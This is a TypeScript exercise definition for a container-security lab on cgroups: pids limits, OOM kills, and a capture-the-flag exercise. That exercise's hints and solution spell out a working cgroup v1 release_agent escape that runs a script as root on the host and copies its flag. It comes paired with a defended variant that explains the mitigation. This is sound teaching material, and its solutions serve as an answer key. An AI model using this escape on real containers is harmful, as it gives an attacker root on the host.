import { definePractice } from '../../src/engine/exercise.js';
import type { Step } from '../../src/model/lesson.js';
import { BOX, hostToolInBoxMounts } from '../../src/box/box.js';
import { cgroupDriver, v2Driver, type CgroupDriver } from '../../src/box/cgroup-driver.js';
import { CAPABILITIES, DOCKER_DEFAULT_CAPS } from '../../src/kernel/capabilities.js';
import { described, cmd, shProgram } from '../../src/shell/cmd.js';
import { cat } from '../../src/shell/coreutils.js';
import { mountFs, remountReadOnly } from '../../src/shell/mount.js';
import { flagLooted, flagStep } from '../common.js';
import { boxDoor } from '../07-capabilities/practice.js';

export default definePractice((host) => {
  // The same driver as the lesson: the files a learner writes depend on the layout.
  const found = cgroupDriver(host.cgroupLayout());
  const cg: CgroupDriver = typeof found === 'string' ? v2Driver('/sys/fs/cgroup') : found;
  const v1 = cg.kind === 'v1';

  const GROUP = 'boxlab-${RUN_ID}';
  const PIDS_GROUP = cg.dir(`${GROUP}/learner`, 'pids');
  const MEM_GROUP = cg.dir(`${GROUP}/learner-mem`, 'memory');
  const MIB = 1024 * 1024;
  /** A path as the learner types it: $RUN_ID is exported in their shell. */
  const typed = (p: string): string => p.replaceAll('${RUN_ID}', '$RUN_ID');
  /** The box's own programs, in all its namespaces: what a runtime starts in it. */
  const IN_BOX = 'nsenter --target "$BOX" --mount --uts --ipc --net --pid --cgroup --root --wd';

  /** A cgroup the learner is asked to make: declared, so it is emptied and removed at the end. */
  const learnerGroup = (dir: string, what: string): Step => ({
    id: 'learner-group',
    title: `the cgroup you make (${what}) is removed at the end`,
    feature: { name: 'control groups', syscalls: ['mkdir(2) in cgroupfs', 'rmdir(2)'], man: ['cgroups(7)'] },
    creates: [{ cgroup: dir }],
    actions: [],
    checks: [],
  });

  /** Prints a line for each process in DIR/cgroup.procs that is a `sleep` in the box's PID namespace. */
  const boxSleepersIn = (dir: string) =>
    described(`the sleeps of the box's PID namespace listed in ${dir}/cgroup.procs`, shProgram('sh', '-c', 'for p in $(cat "$1/cgroup.procs"); do [ "/proc/$p/ns/pid" -ef "/proc/$2/ns/pid" ] && [ "$(cat "/proc/$p/comm")" = sleep ] && echo "a sleep of the box"; done 2>/dev/null; true', 'sh', dir, BOX));

  // --- capture the flag: cgroup v1's release_agent -------------------------------------------
  const PIDS_ROOT = v1 ? cg.dir('', 'pids').replace(/\/$/, '') : '/sys/fs/cgroup/pids';
  const RELEASE_AGENT = `${PIDS_ROOT}/release_agent`;
  const ESCAPE = cg.dir(`${GROUP}/escape`, 'pids');
  const NOT_DOCKER = CAPABILITIES.filter((c) => !DOCKER_DEFAULT_CAPS.includes(c));
  const LEAKY = NOT_DOCKER.filter((c) => c !== 'cap_sys_admin');
  const inRoot = (path: string) => `/proc/${BOX}/root${path}`;
  const asIs = { noCanonicalize: true };

  const keepReleaseAgent: Step = {
    id: 'keep-release-agent',
    title: "keep the pids hierarchy's release_agent (written back at the end), and remove the cgroup boxlab-RUN/escape",
    feature: { name: 'release_agent (cgroup v1)', syscalls: ['write(2) to cgroupfs'], man: ['cgroups(7)'] },
    creates: [{ restore: RELEASE_AGENT, saved: 'RELEASE_AGENT_WAS' }, { cgroup: ESCAPE }],
    actions: [{ run: cat(RELEASE_AGENT) }],
    checks: [],
  };

  /** As Docker does it: a tmpfs at /sys/fs/cgroup and a hierarchy in it (mounted from the host's cgroup namespace). */
  function cgroupfsStep(readOnly: boolean): Step {
    const target = inRoot('/sys/fs/cgroup/pids');
    return {
      id: 'cgroupfs',
      title: `the box gets the host's v1 pids hierarchy at /sys/fs/cgroup/pids, ${readOnly ? 'read-only' : 'writable'}`,
      feature: { name: 'cgroup v1 filesystem', syscalls: ['mount(2) of cgroup'], man: ['cgroups(7)'] },
      actions: [
        { run: hostToolInBoxMounts(mountFs('tmpfs', 'boxlab-cgroup', inRoot('/sys/fs/cgroup'), 'mode=755', asIs)) },
        { run: hostToolInBoxMounts(cmd('mkdir', target)) },
        { run: hostToolInBoxMounts(mountFs('cgroup', 'cgroup', target, 'pids', asIs)) },
        ...(readOnly ? [{ run: hostToolInBoxMounts(remountReadOnly(target, asIs)) }] : []),
      ],
      checks: [
        {
          title: `the box sees the hierarchy's root, release_agent and all, ${readOnly ? 'read-only' : 'writable'}`,
          fact: { file: `/proc/${BOX}/mountinfo`, grep: ' /sys/fs/cgroup/pids ' },
          contains: `/sys/fs/cgroup/pids ${readOnly ? 'ro' : 'rw'},`,
        },
      ],
    };
  }

  const memLimit = v1 ? `echo ${16 * MIB} > "$G/memory.limit_in_bytes"` : `echo ${16 * MIB} > "$G/memory.max"\necho 0 > "$G/memory.swap.max"`;

  return {
    lesson: 9,
    exercises: [
      {
        id: 'pids-max',
        title: 'a cgroup of your own, pids.max 5',
        goal: `Make the cgroup ${typed(PIDS_GROUP)} with pids.max 5, and start the box's \`sleep 1000\` (in the box's namespaces and root) as a process of that cgroup.`,
        from: 'box-group',
        setup: [learnerGroup(PIDS_GROUP, typed(PIDS_GROUP))],
        checks: [
          { title: "the cgroup's pids.max is 5", fact: { file: `${PIDS_GROUP}/pids.max` }, equals: '5' },
          { title: 'a sleep in the box is in it (its cgroup.procs)', fact: { out: boxSleepersIn(PIDS_GROUP) }, contains: 'a sleep of the box' },
        ],
        hints: [
          'A cgroup is a directory: mkdir makes it, and its files hold the limits. A process joins it when its PID is written to cgroup.procs, and a child is born in the cgroup of its parent: so join first, then start the program.',
          `Here, ${cg.describe}; pids.max holds the limit. A subshell can write its own PID ($BASHPID, not $$) to cgroup.procs and then exec nsenter(1) into the box: --target "$BOX", a flag per namespace, --root --wd for the box's own /bin/sleep.`,
          `G=${typed(PIDS_GROUP)}; mkdir "$G"; echo 5 > "$G/pids.max"; (echo ____ > "$G/cgroup.procs"; exec ${IN_BOX} /bin/sleep 1000) &`,
        ],
        solution: [
          `G=${typed(PIDS_GROUP)}`,
          'mkdir "$G"',
          'echo 5 > "$G/pids.max"',
          '# join first, then start: a child is born in its parent\'s cgroup',
          `(echo $BASHPID > "$G/cgroup.procs"; exec ${IN_BOX} /bin/sleep 1000) &`,
          'sleep 0.5',
          'cat "$G/cgroup.procs"',
        ].join('\n'),
      },
      {
        id: 'oom',
        title: 'an OOM kill at 16 MiB',
        goal: `Make the cgroup ${typed(MEM_GROUP)} with a memory limit of 16 MiB (${16 * MIB} bytes${v1 ? '' : ', and no swap'}), and in it have a program of the box write more than that into the box's /tmp (a tmpfs), so that the kernel's OOM killer kills it there.`,
        from: 'memory',
        setup: [learnerGroup(MEM_GROUP, typed(MEM_GROUP))],
        checks: [
          { title: `the cgroup's memory limit is 16 MiB (${v1 ? 'memory.limit_in_bytes' : 'memory.max'})`, fact: { file: `${MEM_GROUP}/${v1 ? 'memory.limit_in_bytes' : 'memory.max'}` }, equals: String(16 * MIB) },
          { title: `the kernel OOM-killed a process in it (oom_kill in ${v1 ? 'memory.oom_control' : 'memory.events'})`, fact: { file: cg.oomFile(`${GROUP}/learner-mem`), grep: 'oom_kill ' }, differs: 'oom_kill 0' },
        ],
        hints: [
          "A memory cgroup charges every page its processes use, tmpfs pages included, and those cannot be reclaimed without swap. At the limit the kernel runs the OOM killer inside the group only: the writer dies, the box and the host do not notice.",
          `${v1 ? 'On cgroup v1 the limit is memory.limit_in_bytes' : 'On cgroup v2 the limit is memory.max, and memory.swap.max 0 keeps the pages from being swapped out'}; ${v1 ? 'memory.oom_control' : 'memory.events'} counts the kills (oom_kill). Join the cgroup from a subshell ($BASHPID into cgroup.procs), then exec the box's dd(1) into the box (nsenter --target "$BOX" ... --root --wd): of=/tmp/fill, bs=1M and a count above 16.`,
          `G=${typed(MEM_GROUP)}; mkdir "$G"; ${memLimit.replace('\n', '; ')}; (echo $BASHPID > "$G/cgroup.procs"; exec ${IN_BOX} /bin/dd if=/dev/zero of=/tmp/fill bs=1M count=____)`,
        ],
        solution: [
          `G=${typed(MEM_GROUP)}`,
          'mkdir "$G"',
          memLimit,
          '# join first, then start the writer: 64 MB into the tmpfs, four times the limit',
          `(echo $BASHPID > "$G/cgroup.procs"; exec ${IN_BOX} /bin/dd if=/dev/zero of=/tmp/fill bs=1M count=64)`,
          `${IN_BOX} /bin/rm -f /tmp/fill`,
          `grep oom_kill "${typed(cg.oomFile(`${GROUP}/learner-mem`))}"`,
        ].join('\n'),
      },
      {
        id: 'release-agent',
        title: 'capture the flag: release_agent',
        goal:
          "This box's runtime kept CAP_SYS_ADMIN (besides Docker's 14) and gave the box a writable cgroupfs: the host's cgroup v1 pids hierarchy at /sys/fs/cgroup/pids. Enter the box as its runtime does, with $WORK/enter (cat it to see how), and from inside the box make the host's kernel copy the host's flag ($WORK/flag on the host) to /loot in the box ($ROOTFS/loot on the host). Call the cgroup you make boxlab-$RUN_ID/escape (it is removed at the end).",
        from: 'box-group',
        requires: [
          { path: RELEASE_AGENT, reason: `no cgroup v1 pids hierarchy here (${cg.describe}): release_agent exists on v1 only` },
          // The kernel runs release_agent by its path from the first mount namespace's root: a
          // root that is a directory of another filesystem (a pivot_root'ed tree) has other paths.
          {
            command: cmd('awk', '$5 == "/" { r = $4 } END { exit r == "/" ? 0 : 1 }', '/proc/self/mountinfo'),
            reason: "this / is a directory of another filesystem (scripts/fresh-host.sh's tree, say), and the kernel runs release_agent by its path from the host's /",
          },
        ],
        setup: [flagStep, keepReleaseAgent, cgroupfsStep(false), boxDoor({ title: "the box's way in: Docker's 14 capabilities, and CAP_SYS_ADMIN", drop: LEAKY })],
        checks: [flagLooted('the box')],
        hints: [
          "On cgroup v1, each hierarchy's release_agent names a program that the kernel runs, as root, in the host's namespaces, whenever a cgroup whose notify_on_release is 1 loses its last process. The kernel finds that program by its path on the host, and the box's / is $ROOTFS there (the box's own /proc/self/mountinfo says so too).",
          'All plain writes, in the box\'s /sys/fs/cgroup/pids: mkdir the cgroup, echo 1 into its notify_on_release, write a script into the box and put its host path into release_agent (the hierarchy\'s root), then run a process that joins the cgroup (its PID into cgroup.procs) and exits.',
          `$WORK/enter -c 'cg=/sys/fs/cgroup/pids; mkdir $cg/boxlab-$RUN_ID/escape; echo 1 > $cg/boxlab-$RUN_ID/escape/notify_on_release; printf "#!/bin/sh\\ncat $WORK/flag > $ROOTFS/loot\\n" > /escape.sh; chmod +x /escape.sh; echo $ROOTFS/escape.sh > ____; sh -c "echo \\$\\$ > $cg/boxlab-$RUN_ID/escape/cgroup.procs"; sleep 1; cat /loot'`,
        ],
        solution: [
          `"$WORK/enter" -c '`,
          '  cg=/sys/fs/cgroup/pids',
          '  mkdir $cg/boxlab-$RUN_ID/escape',
          '  echo 1 > $cg/boxlab-$RUN_ID/escape/notify_on_release',
          '  # what the kernel will run, as root on the host, where this file is $ROOTFS/escape.sh',
          '  printf "#!/bin/sh\\ncat $WORK/flag > $ROOTFS/loot\\n" > /escape.sh',
          '  chmod +x /escape.sh',
          '  echo $ROOTFS/escape.sh > $cg/release_agent',
          '  # a process joins the cgroup and exits: the cgroup is empty, the kernel calls the agent',
          '  sh -c "echo \\$\\$ > $cg/boxlab-$RUN_ID/escape/cgroup.procs"',
          '  for i in 1 2 3 4 5; do [ -s /loot ] && break; sleep 1; done',
          '  cat /loot',
          "'",
        ].join('\n'),
        defended: {
          from: 'box-group',
          setup: [flagStep, keepReleaseAgent, cgroupfsStep(true), boxDoor({ title: "the box's way in: Docker's 14 capabilities only", drop: NOT_DOCKER })],
          why: "Docker's defaults: no CAP_SYS_ADMIN, and the cgroupfs read-only. The read-only mount refuses the mkdir and the writes (EROFS), and only CAP_SYS_ADMIN could remount it; even on a writable cgroupfs, the kernel lets only CAP_SYS_ADMIN (in the initial user namespace) set release_agent, since the fix for CVE-2022-0492.",
        },
      },
    ],
  };
});
